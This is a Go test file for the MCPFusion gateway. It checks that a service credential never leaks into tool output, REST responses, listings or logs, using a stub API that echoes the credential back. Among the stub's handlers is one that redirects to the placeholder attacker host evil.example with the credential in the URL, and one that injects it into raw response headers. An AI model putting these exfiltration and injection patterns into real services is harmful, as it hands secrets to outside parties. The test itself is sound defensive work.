package mcpserver_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/mccutchen/go-httpbin/v2/httpbin"
	"github.com/stretchr/testify/require"

	"github.com/PivotLLM/MCPFusion/fusion"
)

// serviceCanary is a credential that every spelling changes.
const serviceCanary = `c4n/ry+key=odd&"<x>%41 end`

// credentials are the kinds that the configuration has, each with the canary.
var credentials = map[string]string{
	"bearer": `{"type": "bearer", "config": {"token": "${KEY}"}}`,
	"header": `{"type": "api_key", "config": {"key": "${KEY}", "header": "X-Key"}}`,
	"query":  `{"type": "api_key", "config": {"key": "${KEY}", "queryParam": "k"}}`,
	"basic":  `{"type": "basic", "config": {"username": "anna", "password": "${KEY}"}}`,
}

// spellings are what must not come out. What was sent for basic is as good as
// the password.
func spellings() []string {
	inJSON, _ := json.Marshal(serviceCanary)
	basic := base64.StdEncoding.EncodeToString([]byte("anna:" + serviceCanary))
	return []string{
		serviceCanary, url.QueryEscape(serviceCanary), url.PathEscape(serviceCanary),
		strings.ToLower(url.QueryEscape(serviceCanary)), strings.ToLower(url.PathEscape(serviceCanary)),
		html.EscapeString(serviceCanary), strings.Trim(string(inJSON), `"`),
		strings.ReplaceAll(serviceCanary, `"`, `\"`), basic, strings.TrimRight(basic, "="), url.QueryEscape(basic),
	}
}

// received is the credential that reached the API, whichever way.
func received(r *http.Request) string {
	if _, password, ok := r.BasicAuth(); ok {
		return strings.TrimPrefix(r.Header.Get("Authorization"), "Basic ") + " " + password
	}
	return strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") + r.Header.Get("X-Key") + r.URL.Query().Get("k")
}

// tellTales are the ways in which an API repeats what it got.
var tellTales = map[string]func(w http.ResponseWriter, r *http.Request, got string){
	"json": func(w http.ResponseWriter, r *http.Request, got string) {
		_ = json.NewEncoder(w).Encode(map[string]any{got: []any{r.Header, r.URL.String(), got, map[string]string{"in": url.PathEscape(got)}}})
	},
	"text":  func(w http.ResponseWriter, r *http.Request, got string) { fmt.Fprint(w, r.Header, r.URL, got) },
	"error": func(w http.ResponseWriter, r *http.Request, got string) { http.Error(w, got+" "+r.URL.String(), 400) },
	"errorjson": func(w http.ResponseWriter, _ *http.Request, got string) {
		says(500, "application/json", quoted(got))(w, nil)
	},
	"errorhtml": func(w http.ResponseWriter, _ *http.Request, got string) {
		says(503, "text/html", "<title>"+html.EscapeString(got)+"</title>")(w, nil)
	},
	"unauthorized": func(w http.ResponseWriter, _ *http.Request, got string) {
		w.Header().Set("WWW-Authenticate", "Bearer "+url.QueryEscape(got))
		says(401, "text/plain", "bad token "+got)(w, nil)
	},
	"garbage": func(w http.ResponseWriter, _ *http.Request, got string) {
		says(200, "application/json", "{"+got)(w, nil)
	},
	"escaped": func(w http.ResponseWriter, _ *http.Request, got string) {
		fmt.Fprint(w, quoted(url.QueryEscape(got)+" "+url.PathEscape(got)))
	},
	"redirect": func(w http.ResponseWriter, r *http.Request, got string) {
		http.Redirect(w, r, "/text?"+url.QueryEscape(got), http.StatusFound)
	},
	"away": func(w http.ResponseWriter, r *http.Request, got string) {
		http.Redirect(w, r, "http://evil.example/"+url.PathEscape(got)+"?k="+url.QueryEscape(got), http.StatusFound)
	},
	"nowhere": func(w http.ResponseWriter, _ *http.Request, got string) {
		w.Header()["Location"] = []string{"http://[::1" + url.PathEscape(got)}
		w.WriteHeader(302)
	},
	"status": func(w http.ResponseWriter, r *http.Request, got string) {
		sendsRaw("HTTP/1.1 200 "+got+"\r\nX: "+got+"\r\nContent-Length: x"+got+"\r\n\r\n", false)(w, r)
	},
	"note": func(w http.ResponseWriter, _ *http.Request, got string) {
		fmt.Fprint(w, quoted(strings.Repeat(got+" ", 100)))
	},
}

func quoted(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// telltaleAPI serves tellTales, and go-httpbin below /bin/.
func telltaleAPI() http.Handler {
	mux := http.NewServeMux()
	for name, tell := range tellTales {
		mux.HandleFunc("/"+name, func(w http.ResponseWriter, r *http.Request) { tell(w, r, received(r)) })
	}
	mux.Handle("/bin/", http.StripPrefix("/bin", httpbin.New().Handler()))
	return mux
}

func telltaleConfig() string {
	var services []string
	for kind, auth := range credentials {
		endpoints := []string{`{"id":"anything","name":"N","method":"GET","path":"/bin/anything"}`, `{"id":"bin_headers","name":"N","method":"GET","path":"/bin/headers"}`}
		for name := range tellTales {
			endpoints = append(endpoints, fmt.Sprintf(`{"id":%q,"name":"N","method":"GET","path":"/%s","response":{"type":%q}}`, name, name, map[bool]string{true: "text", false: "json"}[name == "text"]))
		}
		services = append(services, fmt.Sprintf(`%q:{"name":"S","baseURL":"${API}","auth":%s,"endpoints":[%s]}`, kind, auth, strings.Join(endpoints, ",")))
	}
	return `{"services":{` + strings.Join(services, ",") + `}}`
}

// TestNoServiceCredentialComesOut calls APIs that repeat it wherever they can,
// over each surface, and looks at all that callers and operators see.
func TestNoServiceCredentialComesOut(t *testing.T) {
	var armed atomic.Int64
	telltale := telltaleAPI()
	api, log := newStub(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.Contains(received(r), serviceCanary) {
			armed.Add(1)
		}
		telltale.ServeHTTP(w, r)
	})), &lockedBuffer{}
	tools, loaded := withTools(t, log, telltaleConfig(), []string{"API", api.URL, "KEY", serviceCanary})
	g := newGateway(t, tools)
	for _, tool := range loaded.Tools() {
		var out strings.Builder
		rest := g.get(t, "/api/"+tool.Service+"/"+tool.Endpoint, bearer(g.alice))
		require.NoError(t, rest.Header.Write(&out))
		_, text := g.callBoth(t, tool.Name, `{}`)
		requireNoSpelling(t, tool.Name, out.String()+rest.body+text)
	}
	requireNoSpelling(t, "the lists", g.lists(t, loaded)+g.postJSON(t, "/mcp", rpc(1, "tools/list", `{}`), bearer(g.alice)).body)
	requireNoSpelling(t, "the logs", log.String()+g.log.String())
	require.GreaterOrEqual(t, armed.Load(), int64(3*len(loaded.Tools())), "the credential was sent")
}

// lists are all that REST tells of the tools.
func (g *gateway) lists(t *testing.T, loaded *fusion.Fusion) string {
	t.Helper()
	paths := []string{"/api", "/api/connections", "/api/openapi.json"}
	for _, service := range loaded.Services() {
		paths = append(paths, "/api/"+service.Key)
	}
	var all strings.Builder
	for _, path := range paths {
		answer := g.get(t, path, bearer(g.alice))
		require.Equal(t, http.StatusOK, answer.StatusCode)
		all.WriteString(answer.body)
	}
	return all.String()
}

func requireNoSpelling(t *testing.T, where, seen string) {
	t.Helper()
	for _, spelling := range spellings() {
		require.NotContains(t, seen, spelling, where)
	}
}
